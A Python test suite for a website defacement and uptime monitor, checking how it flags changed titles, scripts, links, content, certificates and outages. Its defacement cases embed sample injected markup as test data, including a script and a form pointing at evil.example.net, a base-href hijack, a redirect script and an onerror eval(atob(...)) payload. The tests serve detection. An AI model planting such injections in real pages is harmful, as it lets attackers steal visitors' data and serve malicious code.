"""What a look at a site tells."""

from datetime import UTC, datetime, timedelta

import pytest

from collectors.websites.compare import EXPIRES_SOON, compare
from collectors.websites.memory import FILES_EVERY, LOOKS_TO_LEARN, Look, SiteMemory
from collectors.websites.page import read_page
from tests.collectors.websites.site import TEXT, html

URL = "https://www.example.com/"
NOW = datetime(2026, 11, 22, tzinfo=UTC)


def look(page: bytes | None = None, **more: object) -> Look:
    return Look(NOW, URL, 200 if page else 0, page=read_page(page, URL) if page else None, **more)  # type: ignore[arg-type]


def learned() -> SiteMemory:
    """The site's own face, its news changing meanwhile."""
    memory = SiteMemory()
    for n in range(LOOKS_TO_LEARN):
        assert checks(memory, html(news=(f"소식 {n}",))) == {("up", "ok")}
    assert not memory.learning
    return memory


def checks(memory: SiteMemory, page: bytes | None, **more: object) -> set[tuple[str, str]]:
    return {(told["Check"], told["Status"]) for told in compare(memory, look(page, **more))}


def test_a_site_as_it_was_tells_that_it_was_seen() -> None:
    assert checks(learned(), html(news=("소식 9", "소식 10"))) == {("up", "ok")}


def test_a_region_that_changed_while_the_site_was_learned_may_go_on_changing() -> None:
    memory = learned()
    for n in range(20):
        news = tuple(f"{n} {i}번째 아주 다른 소식이 올라왔습니다" for i in range(n))
        assert checks(memory, html(news=news)) == {("up", "ok")}


@pytest.mark.parametrize(
    ("page", "check"),
    [
        (html(title="Hacked"), "title"),
        (html(title=""), "title"),
        (html(more='<script src="https://evil.example.net/m.js"></script>'), "scripts"),
        (html(more='<iframe src="https://evil.example.net/"></iframe>'), "links"),
        (html(more='<form action="https://evil.example.net/"></form>'), "links"),
        (html(more='<base href="https://evil.example.net/"><form action="/contact"></form>'), "links"),
        (html(more="".join(f'<a href="https://casino.example.net/{n}">x</a>' for n in range(5))), "links"),
        (html(more='<script src="/uploaded.js"></script>'), "scripts"),
        (html(more='<script>location = "https://evil.example.net/"</script>'), "scripts"),
        (html(more='<img src="x" onerror="eval(atob(name))">'), "scripts"),
        (html(more="<style>body { background: url(//evil.example.net/x.png) }</style>"), "scripts"),
        (html(more="".join(f'<a href="https://casino{n}.example.net/">x</a>' for n in range(5))), "links"),
        (html(text="우리는 이 사이트를 가져갔습니다. " * 12), "content"),
        (html(more="<p>hacked by nobody</p>"), "content"),
        (
            b"<html><head><title>" + "대성테크".encode() + b"</title></head><body><center><table><tr><td>.</table>",
            "shape",
        ),
    ],
)
def test_a_defaced_page_is_told_by_what_changed(page: bytes, check: str) -> None:
    assert (check, "changed") in checks(learned(), page)


@pytest.mark.parametrize(
    "page",
    [
        html(more='<a href="https://customer.example.net/">고객사</a>'),
        html(more='<button onclick="openCatalogue(3)">목록</button>'),
        html(more='<script type="application/ld+json">{"name": "대성테크"}</script>'),
        html(text="대성테크는 정밀 금형과 사출 부품을 설계하고 만드는 기업입니다." + TEXT[TEXT.index("1998") - 1 :]),
    ],
)
def test_an_editors_small_change_is_no_defacement(page: bytes) -> None:
    assert checks(learned(), page) <= {("up", "ok"), ("content", "edited")}


def test_a_change_is_told_once_and_its_end_once() -> None:
    memory = learned()
    assert ("title", "changed") in checks(memory, html(title="x"))
    assert checks(memory, html(title="x")) == {("up", "ok")}
    assert checks(memory, html()) == {("up", "ok"), ("title", "ok")}
    assert checks(memory, html()) == {("up", "ok")}


def test_one_missed_answer_is_no_outage_two_are() -> None:
    memory = learned()
    assert checks(memory, None, error="no answer") == set()
    assert checks(memory, None, error="no answer") == {("up", "down")}
    assert checks(memory, None, error="no answer") == set()
    assert checks(memory, html()) == {("up", "ok")}


def test_nothing_is_compared_while_the_company_deploys_and_the_new_site_is_learned_afterwards() -> None:
    memory = learned()
    new = html(title="새 대성테크", text="완전히 새로 만든 홈페이지입니다. " * 10)
    told = compare(memory, look(new), deploying=True)
    assert [one["Check"] for one in told] == ["up"]
    for _ in range(LOOKS_TO_LEARN):
        assert checks(memory, new) == {("up", "ok")}
    assert ("title", "changed") in checks(memory, html())


def test_a_certificate_tells_its_end_its_faults_and_another_issuer() -> None:
    memory = learned()
    good = {"issuer": "Example CA", "expires_at": NOW + timedelta(days=90)}
    soon = {"issuer": "Example CA", "expires_at": NOW + EXPIRES_SOON - timedelta(hours=1)}
    assert checks(memory, html(), **good) == {("up", "ok")}
    assert checks(memory, html(), **soon) == {("up", "ok"), ("certificate", "expiring")}
    assert checks(memory, html(), **soon) == {("up", "ok")}
    assert checks(memory, html(), **good) == {("up", "ok"), ("certificate", "ok")}
    assert checks(memory, html(), certificate_error="expired") == {("up", "ok"), ("certificate", "down")}
    other = good | {"issuer": "Other CA"}
    assert checks(memory, html(), **other) == {("up", "ok"), ("certificate", "changed")}


def test_a_page_that_looks_otherwise_is_told_by_its_picture() -> None:
    memory = SiteMemory()
    for _ in range(LOOKS_TO_LEARN):
        checks(memory, html(), picture="ffffffff00000000")
    assert checks(memory, html(), picture="fffffffe00000001") == {("up", "ok")}
    assert checks(memory, html(), picture="00000000ffffffff") == {("up", "ok"), ("picture", "changed")}


def test_a_page_that_comes_from_another_host_is_told() -> None:
    there = read_page(html(), "https://other.example.net/")
    found = compare(learned(), Look(NOW, URL, 200, page=there))
    assert ("links", "changed", "other.example.net") in [
        (one["Check"], one["Status"], one.get("After")) for one in found
    ]


def test_a_script_in_the_page_may_change_its_texts_and_lists() -> None:
    memory = SiteMemory()
    for n in range(LOOKS_TO_LEARN + 3):
        news = ", ".join(f'{{id: {i}, title: "소식 {i}"}}' for i in range(n + 1))
        script = f'<script>var token = "{n}"; show([{news}]); // {n}</script>'
        assert checks(memory, html(more=script)) == {("up", "ok")}


def test_a_site_that_makes_up_its_scripts_is_not_judged_by_them() -> None:
    memory = SiteMemory()
    for n in range(LOOKS_TO_LEARN + 3):
        assert checks(memory, html(more=f"<script>f{n}(g{n}, h{n})</script>")) == {("up", "ok")}


PAGE_WITH_FILES = html(more='<script src="/app.js?v=1"></script><img src="/logo.png">')
SCRIPT, IMAGE = f"{URL}app.js", f"{URL}logo.png"


@pytest.mark.parametrize(("address", "check"), [(SCRIPT, "scripts"), (IMAGE, "picture")])
def test_a_file_of_the_sites_own_that_is_another_is_told_once_and_its_end_once(address: str, check: str) -> None:
    memory, own = SiteMemory(), {SCRIPT: "1", IMAGE: "2"}
    for _ in range(LOOKS_TO_LEARN):
        assert checks(memory, PAGE_WITH_FILES, files=own) == {("up", "ok")}
    assert checks(memory, PAGE_WITH_FILES, files=own | {address: "x"}) == {("up", "ok"), (check, "changed")}
    assert checks(memory, PAGE_WITH_FILES) == {("up", "ok")}
    assert checks(memory, PAGE_WITH_FILES, files=own) == {("up", "ok"), (check, "ok")}


def test_a_file_that_was_another_at_each_look_may_go_on_so() -> None:
    memory = SiteMemory()
    for n in range(LOOKS_TO_LEARN + 3):
        assert checks(memory, PAGE_WITH_FILES, files={IMAGE: str(n)}) == {("up", "ok")}


def test_the_sites_own_files_are_asked_for_while_it_is_learned_and_now_and_then_afterwards() -> None:
    memory = learned()
    wanted = []
    for _ in range(2 * FILES_EVERY):
        wanted.append(memory.wants_files)
        checks(memory, html(), files={SCRIPT: "1"} if memory.wants_files else {})
    assert sum(wanted) == 1


def test_one_rewritten_sentence_is_told_as_an_edit_and_not_as_a_defacement() -> None:
    memory = learned()
    other = html(text=TEXT.replace("창원", "마산"))
    told = [found for found in compare(memory, look(other)) if found["Check"] == "content"]
    assert [(found["Status"], "마산에" in found["After"]) for found in told] == [("edited", True)]
    assert checks(memory, other) == {("up", "ok")}


def test_a_place_that_is_edited_again_and_again_is_left_out() -> None:
    memory = learned()
    told = [checks(memory, html(text=f"{TEXT} {n}")) for n in range(6)]
    assert told == [{("up", "ok"), ("content", "edited")}] * 3 + [{("up", "ok")}] * 3


def test_a_frame_of_the_sites_own_that_was_not_there_is_told() -> None:
    assert ("links", "changed") in checks(learned(), html(more='<iframe src="/upload/a.html?1"></iframe>'))
    memory = SiteMemory()
    for n in range(LOOKS_TO_LEARN + 1):
        assert checks(memory, html(more=f'<iframe src="/map.html?{n}"></iframe>')) == {("up", "ok")}


def test_a_site_that_fails_every_other_time_is_unstable_once_though_never_down() -> None:
    memory = learned()
    told = [checks(memory, None if n % 2 else html()) for n in range(12)]
    assert sum(("up", "unstable") in found for found in told) == 1
    assert not any(("up", "down") in found for found in told)


def test_a_long_outage_is_down_and_not_unstable_afterwards() -> None:
    memory = learned()
    told = [checks(memory, None) for _ in range(20)] + [checks(memory, html()) for _ in range(20)]
    assert [status for found in told for _, status in found if status != "ok"] == ["down"]


@pytest.mark.parametrize(
    ("sentence", "problem"),
    [
        ("certificate has expired", "expired"),
        ("certificate is not yet valid", "not_yet_valid"),
        ("Hostname mismatch, certificate is not valid for 'www.example.com'.", "wrong_name"),
        ("self-signed certificate in certificate chain", "self_signed"),
        ("unable to get local issuer certificate", "untrusted"),
    ],
)
def test_what_is_wrong_with_a_certificate_is_a_word_that_rules_ask_for(sentence: str, problem: str) -> None:
    told = compare(learned(), look(html(), certificate_error=sentence))
    assert [found["Problem"] for found in told if found["Check"] == "certificate"] == [problem]


def test_a_site_learned_before_frames_were_looked_at_takes_them_as_its_own() -> None:
    memory = learned()
    memory.frames = None
    page = html(more='<iframe src="/map.html"></iframe>')
    assert checks(memory, page) == {("up", "ok")}
    assert ("links", "changed") in checks(memory, html(more='<iframe src="/upload/a.html"></iframe>'))


def test_a_page_that_is_not_drawn_again_is_still_another_picture() -> None:
    memory = learned()
    memory.picture = "0" * 16
    other = html(title="x")
    assert ("picture", "changed") in checks(memory, other, picture="f" * 16)
    assert checks(memory, other) == {("up", "ok")}
    assert ("picture", "ok") in checks(memory, html())
